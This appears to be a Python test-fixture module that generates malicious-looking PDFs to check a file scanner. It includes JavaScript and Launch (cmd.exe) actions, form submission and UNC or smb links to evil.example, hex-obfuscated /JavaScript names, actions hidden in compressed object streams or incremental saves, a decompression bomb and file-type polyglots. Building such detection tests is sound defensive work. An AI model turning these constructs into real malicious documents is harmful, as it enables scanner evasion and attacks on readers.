"""PDF files that run, hold or fetch something, openly or under another spelling."""

import io
import zlib
from collections.abc import Iterator
from functools import partial
from typing import Any

import pypdf

from ..building import pdf

RUNS = "The file holds a script or an action"
EMBEDDED = "The file holds another file or an object"
FORM = "The file holds a form"
ENCRYPTED = "The file is encrypted"
DAMAGED = "The file is damaged"
OTHER = "What is in the file is not what its name says"

ACTIONS = {
    "/S /JavaScript /JS (app.alert(1))": RUNS,
    "/S /Launch /F (cmd.exe)": RUNS,
    "/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>": RUNS,
    "/S /SubmitForm /F (http://evil.example)": RUNS,
    "/S /ImportData /F (x.fdf)": RUNS,
    "/S /GoToE /T << >>": RUNS,
    "/S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf)": RUNS,
    "/S /Rendition /R << >>": RUNS,
    "/S /Movie": EMBEDDED,
    "/S /Sound /Sound 4 0 R": EMBEDDED,
    "/S /Thread /F (\\\\\\\\evil.example\\\\a)": RUNS,
    "/S /URI /URI (javascript:x)": RUNS,
    "/S /URI /URI (file:///c:/x.exe)": RUNS,
    "/S /URI /URI (smb://evil.example/x)": RUNS,
}
SPELLINGS = ("/J#61vaScript", "/#4aavaScript", "/#4A#61#76#61Script", "/JavaScrip#74")
HELD = {
    "<< /Type /Filespec /EF << /F 4 0 R >> >>": EMBEDDED,
    "<< /Type /EmbeddedFile >>": EMBEDDED,
    "<< /Type /Annot /Subtype /FileAttachment >>": EMBEDDED,
    "<< /Type /Annot /Subtype /RichMedia >>": EMBEDDED,
    "<< /Type /Annot /Subtype /Screen >>": EMBEDDED,
    "<< /Type /Annot /Subtype /Movie >>": EMBEDDED,
    "<< /Type /Annot /Subtype /Sound >>": EMBEDDED,
    "<< /Type /Annot /Subtype /3D >>": EMBEDDED,
    "<< /XFA 4 0 R >>": FORM,
    "<< /#58FA 4 0 R >>": FORM,
    "<< /Type /#45mbeddedFile >>": EMBEDDED,
}


def hidden(body: str, catalog: str = "") -> bytes:
    """An object inside a stream of objects, as programs press them; the table is a stream as well."""
    inner = f"6 0 {body}".encode()
    head = b"6 0 "
    packed = zlib.compress(inner)
    out = b"%PDF-1.7\n"
    places = {}

    def add(number: int, text: bytes) -> None:
        nonlocal out
        places[number] = len(out)
        out += f"{number} 0 obj\n".encode() + text + b"\nendobj\n"

    add(1, f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode())
    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
    add(
        7,
        f"<< /Type /ObjStm /N 1 /First {len(head)} /Filter /FlateDecode /Length {len(packed)} >>\nstream\n".encode()
        + packed
        + b"\nendstream",
    )
    start = len(out)
    rows = b""
    for number in range(9):
        if number in places:
            rows += bytes([1]) + places[number].to_bytes(4) + b"\0\0"
        elif number == 6:
            rows += bytes([2]) + (7).to_bytes(4) + b"\0\0"
        elif number == 8:
            rows += bytes([1]) + start.to_bytes(4) + b"\0\0"
        else:
            rows += bytes([0]) + b"\0" * 6
    table = zlib.compress(rows)
    said = f"<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length {len(table)} >>"
    out += f"8 0 obj\n{said}\nstream\n".encode() + table + b"\nendstream\nendobj\n"
    return out + f"startxref\n{start}\n%%EOF\n".encode()


def locked(how: str) -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(pdf()))
    # RC4 needs no other library; the rights alone are locked with an empty password.
    writer.encrypt("", "owner", algorithm=how)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def grown(body: str) -> bytes:
    """A harmless file, and behind its end a newer state of it that is not: an incremental save."""
    first = pdf()
    place = len(first)
    added = f"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction {body} >>\nendobj\n"
    table = place + len(added)
    last = first.rpartition(b"startxref\n")[2].split(b"\n")[0].decode()
    tail = f"xref\n1 1\n{place:010} 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev {last} >>\nstartxref\n{table}\n%%EOF\n"
    return first + (added + tail).encode()


def packed_page(text: bytes) -> bytes:
    packed = zlib.compress(text)
    return spliced(
        f"<< /Length {len(packed)} /Filter /FlateDecode >>\nstream\n".encode() + packed + b"\nendstream"
    )


def bomb() -> bytes:
    """A page whose text unpacks to hundreds of megabytes."""
    return packed_page(b"BT (x) Tj ET " * 15_000_000)


def spliced(body: bytes) -> bytes:
    out = b"%PDF-1.7\n"
    places = []
    for number, text in enumerate(
        (
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
            body,
        ),
        start=1,
    ):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + text + b"\nendobj\n"
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    start = len(out)
    return (
        out
        + f"xref\n0 5\n0000000000 65535 f \n{table}trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()
    )


def slow() -> bytes:
    """A page of millions of small words."""
    return packed_page(b"BT /F1 1 Tf " + b"1 0 0 1 5 5 Tm (ab) Tj " * 600_000 + b"ET")


def files() -> Iterator[tuple[str, str, Any, str]]:
    for number, (action, sentence) in enumerate(ACTIONS.items()):
        place = f"<< {action} >>"
        if "/URI" not in action or "javascript" in action or "file" in action or "smb" in action:
            yield f"an action {number} that nothing leads to", "report.pdf", pdf(place), sentence
        yield f"an action {number} on opening", "report.pdf", pdf(place, catalog="/OpenAction 6 0 R"), ""
        yield f"an action {number} of a page", "report.pdf", pdf(place, page="/AA << /O 6 0 R >>"), ""
        yield f"an action {number} hidden in a stream", "report.pdf", partial(hidden, place), sentence
        link = f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {place} >>]"
        yield f"an action {number} of a link", "report.pdf", pdf(page=link), sentence
        yield f"an action {number} added later", "report.pdf", partial(grown, place), ""
        chain = f"<< /S /GoTo /D [3 0 R /Fit] /Next {place} >>"
        yield (
            f"an action {number} behind another",
            "report.pdf",
            pdf(chain, catalog="/OpenAction 6 0 R"),
            sentence,
        )
    for number, spelling in enumerate(SPELLINGS):
        yield f"spelling {number}", "report.pdf", pdf(f"<< /S {spelling} /J#53 (x) >>"), RUNS
        yield (
            f"spelling {number} in a stream",
            "report.pdf",
            partial(hidden, f"<< /S {spelling} /#4aS (x) >>"),
            RUNS,
        )
    for number, (body, sentence) in enumerate(HELD.items()):
        yield f"something held {number}", "report.pdf", pdf(body), sentence
        yield f"something held {number} in a stream", "report.pdf", partial(hidden, body), sentence
    names = "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>"
    yield "a script by its name", "report.pdf", pdf(catalog=names), RUNS
    for how in ("RC4-40", "RC4-128", "AES-128", "AES-256"):
        yield f"locked with {how}", "report.pdf", partial(locked, how), ENCRYPTED
    yield "a bomb in a page", "report.pdf", bomb, ""
    yield "a page of millions of words", "report.pdf", slow, ""
    for label, content in {
        "nothing but its mark": b"%PDF-1.7",
        "cut off": pdf()[:300],
        "no table": b"%PDF-1.7\n" + b"x" * 3_000 + b"\n%%EOF",
        "pages in a ring": pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"),
    }.items():
        yield f"a PDF: {label}", "report.pdf", content, ""
    for label, more in {
        "a page": b"<html><script>x</script>",
        "a program": b"MZ\x90\0",
        "an archive": b"PK\x03\x04x",
    }.items():
        yield f"{label}, first, and a PDF", "report.pdf", more + pdf(), OTHER
        yield f"a PDF, and {label}", "report.pdf", pdf() + more, OTHER
